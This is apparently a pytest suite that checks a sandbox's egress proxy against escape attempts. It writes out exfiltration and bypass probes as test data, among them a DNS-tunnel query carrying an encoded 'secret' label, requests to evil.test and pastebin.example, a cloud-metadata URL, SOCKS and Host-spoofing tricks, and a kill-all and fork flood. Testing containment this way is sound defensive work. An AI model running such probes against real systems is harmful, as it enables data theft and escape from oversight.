"""The way out of a real sandbox: programs inside, with and without the variables, against the real proxy."""

import asyncio
import contextlib
import shlex
import socket
from collections.abc import AsyncGenerator
from dataclasses import dataclass, field
from pathlib import Path

import msgspec
import pytest

from overnight.domain.events import Event, NetworkBlocked
from overnight.domain.network import parse_network, policy_of
from overnight.domain.task import Limits
from overnight.sandbox.egress.dialing import PinningDialer
from overnight.sandbox.egress.opening import open_egress
from overnight.sandbox.egress.proxy import EgressProxy
from overnight.sandbox.interface import Command, CommandResult, Sandbox
from tests.attacks.hostile import Place
from tests.sandbox.egress.outside import CHARGE, Outside, dns_query, outside

pytestmark = pytest.mark.anyio

BARE = "env -u HTTP_PROXY -u http_proxy -u HTTPS_PROXY -u https_proxy -u ALL_PROXY -u all_proxy"
CURL = "curl -sS --max-time 60"


@dataclass
class Sealed:
    """A sandbox whose only way out is the proxy, and what the proxy recorded."""

    sandbox: Sandbox
    proxy: EgressProxy
    events: list[Event] = field(default_factory=list[Event])

    async def run(self, script: str, seconds: float | None = None) -> CommandResult:
        """Run a command of the attacker."""
        return await self.sandbox.run(Command(script=script, seconds=seconds))

    async def python(self, script: str) -> CommandResult:
        """Run a program of the attacker."""
        return await self.run(shlex.join(("python3", "-I", "-c", script)))

    @property
    def reasons(self) -> set[tuple[str, str]]:
        """Who was refused, and why."""
        self.proxy.gate.ledger.flush()
        return {(event.host, event.reason) for event in self.events if isinstance(event, NetworkBlocked)}


@contextlib.asynccontextmanager
async def sealed(
    place: Place, world: Outside, folder: Path, *allow: str, network: str = "none"
) -> AsyncGenerator[Sealed]:
    """Open a sandbox with that network over a fresh workspace."""
    if "egress" not in place.backend.networks:
        pytest.skip(f"the sandbox `{place.backend.name}` has no egress on this machine")
    events: list[Event] = []
    limits = Limits(command_seconds=120.0)
    with place.workspace() as workspace:
        spec = workspace.spec()
        proxy = open_egress(
            policy_of(parse_network(network, allow)),
            limits,
            events.append,
            spec.upper.parent / "egress",
            dialer=PinningDialer(world.resolve, world.connect),
            upstream=world.roots,
        )
        spec = msgspec.structs.replace(spec, limits=limits, network="egress", egress=proxy)
        sandbox = place.backend.open(spec)
        try:
            yield Sealed(sandbox, proxy, events)
        finally:
            await sandbox.close()


@pytest.mark.attack(33)
async def test_programs_reach_what_was_granted_and_nothing_else(place: Place, tmp_path: Path) -> None:
    rule = "good.example/read GET"
    async with outside(tmp_path, "good.example") as world, sealed(place, world, tmp_path, rule) as box:
        for before in ("", BARE):
            for url in ("http://good.example/read", "https://good.example/read"):
                done = await box.run(f"{before} {CURL} {url}")
                assert done.stdout == CHARGE, (before, url, done)
            for asked in (
                "http://evil.test/", "https://evil.test/", "http://good.example/other", "-X PUT https://good.example/read",
            ):  # fmt: skip
                done = await box.run(f"{before} {CURL} {asked}")
                assert CHARGE not in done.stdout, (before, asked, done)
        assert {request.line for request in world.requests} == {"GET /read HTTP/1.1"}
        commands = {event.command for event in box.events if isinstance(event, NetworkBlocked)}
        assert f"{BARE} {CURL} http://evil.test/" in commands, "who asked is known"


@pytest.mark.attack(33)
async def test_a_client_without_any_variable_trusts_by_file_only(place: Place, tmp_path: Path) -> None:
    script = (
        "import urllib.request; opener = urllib.request.build_opener(urllib.request.ProxyHandler({}));"
        "print(opener.open('https://good.example/read', timeout=60).read().decode())"
    )
    rule = "good.example/read GET"
    async with outside(tmp_path, "good.example") as world, sealed(place, world, tmp_path, rule) as box:
        done = await box.python(script)
        assert done.stdout.strip() == CHARGE, done


@pytest.mark.attack(23)
async def test_no_address_is_reached_but_by_the_proxy(place: Place, tmp_path: Path) -> None:
    async with (
        outside(tmp_path, "good.example") as world,
        sealed(place, world, tmp_path, "good.example") as box,
    ):
        canary = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        canary.bind(("127.0.0.1", 0))
        canary.setblocking(False)
        targets = [("127.0.0.1", port) for port in world.ports.values()]
        targets += [(host, port) for host in ("93.184.216.1", "1.1.1.1", "10.0.0.1", "::1", "2606:2800::1")
                    for port in (22, 25, 8080, 53000)]  # fmt: skip
        script = f"""
import socket
for host, port in {targets!r}:
    try:
        socket.create_connection((host, port), 5).close(); print("connected", host, port)
    except OSError: pass
for host, port in (("127.0.0.1", {canary.getsockname()[1]}), ("93.184.216.1", 443), ("::1", 443)):
    s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(0.2)
    try:
        s.connect((host, port)); s.send(b"quic"); print("answered", s.recv(9))
    except OSError: pass
for kind, protocol in ((socket.SOCK_DGRAM, 1), (socket.SOCK_RAW, 1), (socket.SOCK_RAW, 17)):
    try:
        s = socket.socket(socket.AF_INET, kind, protocol); s.settimeout(0.2)
        s.sendto(b"\\x08\\0\\xf7\\xff\\0\\0\\0\\0", ("93.184.216.1", 0)); print("sent", s.recv(99)[:0])
    except OSError: pass
for family, kind in ((17, socket.SOCK_RAW), (40, socket.SOCK_STREAM)):
    try: socket.socket(family, kind); print("family", family)
    except OSError: pass
"""
        done = await box.python(script)
        assert done.exit_code == 0, done
        # Every address is this network's own, so a datagram may echo within it; nothing comes out.
        assert b"connected" not in done.stdout, done
        assert b"answered" not in done.stdout, done
        assert b"family" not in done.stdout, done
        assert not world.reached
        with pytest.raises(BlockingIOError):
            canary.recv(9)
        canary.close()
        # By its own address, with the name that was granted: to the address that the name has.
        host = "-H 'Host: good.example' http://203.0.113.77/"
        assert (await box.run(f"{BARE} {CURL} {host}")).stdout == CHARGE
        assert world.dials == [(world.names["good.example"][0], 80)]


@pytest.mark.attack(24)
async def test_every_name_server_is_ours(place: Place, tmp_path: Path) -> None:
    questions = {name: dns_query(name) for name in ("good.example", "c2VjcmV0.t.evil.test")}
    script = f"""
import socket
for server in ("127.0.0.1", "8.8.8.8", "1.1.1.1", "2001:4860:4860::8888"):
    for name, query in {questions!r}.items():
        s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(60); s.connect((server, 53)); s.send(query); a = s.recv(512)
        t = socket.create_connection((server, 53), 60)
        t.sendall(len(query).to_bytes(2, "big") + query); b = t.recv(512)[2:]
        print(name, a[3] & 15, a[-4] == 198 and a[:2] == query[:2], a == b)
"""
    async with (
        outside(tmp_path, "good.example") as world,
        sealed(place, world, tmp_path, "good.example") as box,
    ):
        done = await box.python(script)
        lines = done.stdout.decode().splitlines()
        assert lines == ["good.example 0 True True", "c2VjcmV0.t.evil.test 3 False True"] * 4, done
        assert world.lookups == [], "nobody outside was asked"
        assert ("c2VjcmV0.t.evil.test", "host not allowed") in box.reasons


@pytest.mark.attack(26)
async def test_a_real_client_that_names_another_host(place: Place, tmp_path: Path) -> None:
    async with (
        outside(tmp_path, "good.example", "evil.test") as world,
        sealed(place, world, tmp_path, "good.example GET") as box,
    ):
        for script in (
            f"{BARE} {CURL} --connect-to evil.test:443:good.example:443 https://evil.test/",
            f"{BARE} {CURL} -k -H 'Host: evil.test' https://good.example/",
            f"{CURL} --connect-to evil.test:443:good.example:443 -k https://evil.test/",
            f"{CURL} --resolve evil.test:443:198.18.0.1 -k https://evil.test/",
            f"{CURL} -k --socks5 127.0.0.1:1080 https://evil.test/",
            f"{CURL} -k --socks5-hostname 127.0.0.1:1080 https://evil.test/",
        ):
            done = await box.run(script)
            assert CHARGE not in done.stdout, (script, done)
        assert world.requests == []
        # The control: the same doors, with the name that was granted.
        for script in (
            f"{CURL} --socks5-hostname 127.0.0.1:1080 https://good.example/",
            f"{CURL} --socks5 127.0.0.1:1080 https://good.example/",
            f"{BARE} {CURL} https://good.example/",
        ):
            assert (await box.run(script)).stdout == CHARGE, script


@pytest.mark.attack(30, 19)
async def test_without_a_grant_all_is_refused_and_known(place: Place, tmp_path: Path) -> None:
    async with outside(tmp_path, "good.example") as world, sealed(place, world, tmp_path) as box:
        done = await box.run("env | grep -i -e proxy -e cert; exit 0")
        assert done.stdout == b""
        for url in (
            "http://good.example/",
            "http://93.184.216.1/",
            "http://169.254.169.254/latest/meta-data/",
        ):
            assert CHARGE not in (await box.run(f"{CURL} {url}")).stdout
            assert CHARGE not in (await box.run(f"{CURL} -x http://127.0.0.1:3128 {url}")).stdout
        await box.run(f"{CURL} -k --connect-to ::198.18.7.7: https://pastebin.example/")
        assert (world.lookups, world.dials) == ([], [])
        hosts = {host for host, _ in box.reasons}
        assert {"good.example", "93.184.216.1", "169.254.169.254", "pastebin.example"} <= hosts


@pytest.mark.attack(31)
async def test_a_proxy_that_ends_while_programs_run(place: Place, tmp_path: Path) -> None:
    async with (
        outside(tmp_path, "good.example") as world,
        sealed(place, world, tmp_path, "good.example") as box,
    ):
        assert (await box.run(f"{CURL} http://good.example/")).stdout == CHARGE
        await box.proxy.close()
        for before in ("", BARE):
            for url in ("http://good.example/", "https://good.example/", "http://93.184.216.1/"):
                done = await box.run(f"{before} {CURL} -k {url}")
                assert done.exit_code != 0, done
        assert len(world.requests) == 1


@pytest.mark.attack(31, 36)
async def test_the_sandbox_after_one_that_a_limit_ended(place: Place, tmp_path: Path) -> None:
    async with (
        outside(tmp_path, "good.example") as world,
        sealed(place, world, tmp_path, "good.example") as box,
    ):
        assert (await box.run(f"{CURL} http://good.example/")).stdout == CHARGE
        ended = await box.run("python3 -c 'import os; os.kill(-1, 9)'; sleep 600", seconds=1.0)
        assert ended.exit_code != 0
        assert (await box.run(f"{CURL} http://good.example/")).stdout == CHARGE
        assert CHARGE not in (await box.run(f"{CURL} http://evil.test/")).stdout
        assert {request.host for request in world.requests} == {"good.example"}


@pytest.mark.attack(36)
async def test_floods_from_inside_leave_room_for_the_worker(place: Place, tmp_path: Path) -> None:
    script = f"""
import os, socket, time
query = {dns_query("x.evil.test")!r}
end = time.monotonic() + 2
for child in range(2):
    if os.fork() == 0:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("127.0.0.1", 53))
        while time.monotonic() < end:
            try:
                if child: s.send(query)
                else: socket.create_connection(("127.0.0.1", 3128), 1).close()
            except OSError: pass
        os._exit(0)
os.wait(); os.wait()
"""
    async with (
        outside(tmp_path, "good.example") as world,
        sealed(place, world, tmp_path, "good.example") as box,
    ):
        turns = 0
        flooding = asyncio.create_task(box.python(script))
        while not flooding.done():
            await asyncio.sleep(0.01)
            turns += 1
        assert (await flooding).exit_code == 0
        assert turns > 3, "the worker's loop went on"
        assert (await box.run(f"{CURL} http://good.example/")).stdout == CHARGE
        assert len(box.events) < 200
